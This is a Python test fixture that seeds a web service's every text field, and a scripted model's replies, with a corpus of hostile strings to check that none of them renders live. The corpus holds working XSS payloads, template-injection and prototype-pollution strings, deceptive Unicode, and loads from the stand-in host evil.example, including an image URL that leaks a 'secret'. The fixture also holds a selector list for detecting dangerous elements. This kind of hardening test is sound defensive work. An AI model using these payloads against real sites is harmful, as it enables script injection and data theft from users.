"""A service in which every text that somebody could have written wants to run, to load, or to lead away."""

import asyncio
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

import httpx
from tests.conftest import LIMITS
from tests.llm.scripted_server import ScriptedServer, openai_stream
from tests.portal.conftest import PASSWORD, Person
from tests.portal.talking import COMPLETIONS
from tests.portal.visitors import claimed
from tests.service_process import ServiceProcess, service_process

EVIL = "evil.example"
"""Where nothing may ever be asked for."""
CORPUS = (
    "<script>alert(1)</script>",
    f"<script src=//{EVIL}/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "\"'><body onload=alert(1)>",
    f"<iframe src=//{EVIL}/frame srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data=//{EVIL}/o></object><embed src=//{EVIL}/e>",
    f"<link rel=stylesheet href=//{EVIL}/s.css><style>@import url(//{EVIL}/t.css)</style>",
    f"<base href=//{EVIL}/><meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<form action=//{EVIL}/><input autofocus onfocus=alert(1)><button>Send</button></form>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    f"<video poster=//{EVIL}/v><source onerror=alert(1)></video><audio src=//{EVIL}/m autoplay>",
    f"<a href='javascript:alert(1)' ping=//{EVIL}/p>press</a>",
    "[press](javascript:alert(1)) [press](JaVaScRiPt&#58;alert(1)) <javascript:alert(1)>",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![seen](https://{EVIL}/p.png?q=secret) ![seen][r]\n\n[r]: https://{EVIL}/r.png 'title'",
    f"[![seen](//{EVIL}/in.png)](//{EVIL}/out) https://{EVIL}/autolink",
    f"| a |\n|---|\n| ![seen](https://{EVIL}/cell.png) <img src=//{EVIL}/cell> |",
    f"```html onload=alert(1)\n<img src=//{EVIL}/code>\n```\n~~~\n<script>alert(1)</script>",
    f"$$\\href{{javascript:alert(1)}}{{x}} \\includegraphics{{https://{EVIL}/f.png}}$$ $\\unicode{{<script>}}$",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= alert(1) %> $t(shell:title) {{- x}}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; \\u003cscript\\u003ealert(1)",
    "__proto__[x]=1 constructor toString null undefined NaN",
    "\u202egnp.exe\u202c \u2066left\u2069 \ufeff\u200bhidden\u200d Z\u0351\u036b\u0343algo",
    "red;}*{display:none} url(//evil.example/c) expression(alert(1))",
    f"<template><img src=//{EVIL}/t></template><slot name=x onslotchange=alert(1)></slot><x-y is=z></x-y>",
)
UNNAMEABLE = re.compile("[\\s\u200b-\u206f\ufeff]+")
"""Names that hold such characters are refused."""
ALIVE = (
    "iframe, object, embed, base, form[action^='//'], video, audio, [onerror], [onload], [onclick], [ontoggle], [onfocus], "
    "[onbegin], a[href^='javascript:' i], a[href^='data:' i], a[ping], img[src*='evil'], [srcdoc], meta[http-equiv=refresh], "
    f"main script, main style, main link, [href*='{EVIL}'], [src*='{EVIL}']"
)
"""Elements and attributes that no text may become."""


@dataclass(slots=True)
class Hostile:
    """The service, its owner (whose name is hostile too), and an example of everything that has an address."""

    process: ServiceProcess
    owner: Person
    api: httpx.AsyncClient
    examples: dict[str, list[str]] = field(default_factory=dict)

    async def made(self, path: str, body: dict[str, Any] | None = None, **more: Any) -> Any:
        answer = await self.api.post(f"/api/v1{path}", json=body, **more)
        assert answer.status_code < 300, f"{path}: {answer.text}"
        return answer.json()["data"]

    async def furnish(self) -> None:
        """Write the whole corpus into every kind of text that there is."""
        collection = (
            await self.made("/collections", {"name": CORPUS[2], "access": "public", "description": "\n\n".join(CORPUS)})
        )["id"]
        golden = []
        for number, evil in enumerate(CORPUS):
            line = UNNAMEABLE.sub(" ", evil)
            await self.made("/collections", {"name": f"{line} {number}"[:200], "description": evil})
            await self.made("/groups", {"name": line[:90] + str(number)})
            await self.made("/invitations", {"note": evil})
            await self.made("/workspaces", {"name": line[:100]})
            await self.made("/service-accounts", {"name": line[:100]})
            await self.made("/tiers", {"name": f"tier{number}", "titleEn": line[:100], "titleKo": line[:100]})
            await self.models(f"evil{number}", line[:200])
            golden.append({"question": evil, "facts": [[evil]], "source": line[:200]})
        await self.documents(collection)
        await self.made(f"/collections/{collection}/golden-questions", {"items": golden})
        body = {"collectionIds": [collection], "page": True, "slug": "hostile", "greeting": "\n".join(CORPUS)[:500]}
        published = await self.made("/publications", {"name": CORPUS[2], **body, "suggestions": list(CORPUS[:6])})
        run = await self.made("/evaluations", {"collectionId": collection, "name": CORPUS[0]})
        self.examples |= {
            "$prompt": ["answer"],
            "$version": [await self.version()],
            "$collectionId": [collection],
            "$publicationId": [published["id"]],
            "$evaluationId": [run["id"]],
            "$name": ["guest"],
            "$conversationId": [await self.conversation()],
        }

    async def version(self) -> str:
        """A version of a prompt; what looks like an expression or a variable is refused in one."""
        path, plain = "/prompts/answer", "\n".join(each for each in CORPUS if "{" not in each and "%" not in each)
        text = (await self.api.get(f"/api/v1{path}")).json()["data"]["texts"]["en"]
        drafted = await self.made(f"{path}/versions", {"texts": {"en": f"{text}\n{plain}"}, "note": CORPUS[2]})
        return str(drafted["version"])

    async def conversation(self) -> str:
        """A conversation of the owner: its question is hostile, and so is everything that the model says."""
        cookies = {each["name"]: each["value"] for each in self.owner.state["cookies"]}
        address = self.process.address
        async with httpx.AsyncClient(
            base_url=address, cookies=cookies, headers={"Origin": address}, timeout=60, trust_env=False
        ) as client:
            begun: str = (await client.post("/api/v1/conversations")).json()["data"]["id"]
            path = f"/api/v1/conversations/{begun}/messages"
            asked = await client.post(path, json={"text": f"What does the quokka of row 1 eat? {CORPUS[2]}"})
            assert asked.status_code < 300, asked.text
            renamed = await client.patch(f"/api/v1/conversations/{begun}", json={"title": CORPUS[0]})
            assert renamed.status_code == 200, renamed.text
        return begun

    async def models(self, provider: str, name: str) -> None:
        """A provider that is switched off, with its only model, the price of that, and a budget of an app of this name."""
        about = {"kind": "openai", "url": "http://127.0.0.1:9", "models": [{"name": name}]}
        await self.made("/providers", {"name": provider, **about, "enabled": False, "unchecked": True})
        for path, body in (
            ("/prices", {"provider": provider, "model": name, "perMillionRead": 1}),
            ("/budgets", {"meter": "tokens", "period": "day", "amount": 10**9, "app": name[:100]}),
        ):
            answer = await self.api.put(f"/api/v1{path}", json=body)
            assert answer.status_code == 200, answer.text

    async def documents(self, collection: str) -> None:
        """A document for each text of the corpus: in its name, its title, a heading, a table and a sentence."""
        path = f"/collections/{collection}/documents"
        files = []
        for number, evil in enumerate(CORPUS):
            name, cell = UNNAMEABLE.sub(" ", evil).replace("/", " ")[:80], re.sub(r"[\s|]+", " ", evil)
            table = f"| {cell} | b |\n|---|---|\n| {cell} | c |"
            text = f"# {cell}\n\n{evil}\n\n{table}\n\nThe quokka of row {number} eats leaves {evil}.\n"
            files.append(("file", (f"{number} {name}.md", text.encode())))
        for file in files:
            await self.made(path, None, files=[file])
        async with asyncio.timeout(120):
            while True:
                found = (await self.api.get(f"/api/v1{path}", params={"limit": 100})).json()["data"]["items"]
                if len(found) == len(files) and all(each["status"] == "ready" for each in found):
                    break
                await asyncio.sleep(0.2)
        self.examples["$documentId"] = [each["id"] for each in found]


@asynccontextmanager
async def hostile_service(model: ScriptedServer) -> AsyncIterator[Hostile]:
    """The furnished service. Its model answers every question with the whole corpus."""
    model.on(
        COMPLETIONS, openai_stream("The quokka of row 1 eats leaves [1].\n\n", *(f"{evil}\n\n" for evil in CORPUS))
    )
    more = {"NULLUS_LLM_PROVIDER": "openai", "NULLUS_LLM_URL": model.url, "NULLUS_LLM_MODEL": "tiny"}
    with service_process(None, **LIMITS, **more, NULLUS_LLM_KEY="sesame") as process:
        await asyncio.to_thread(process.up)
        email, name = "owner@example.org", CORPUS[2]
        owner = Person(email, PASSWORD, name, await claimed(process, email, name, PASSWORD))
        operator = (process.home / "secrets" / "operator-token").read_text(encoding="utf-8").strip()
        headers = {"Authorization": f"Bearer {operator}"}
        async with httpx.AsyncClient(base_url=process.address, headers=headers, timeout=60, trust_env=False) as api:
            made = Hostile(process, owner, api)
            await made.furnish()
            yield made
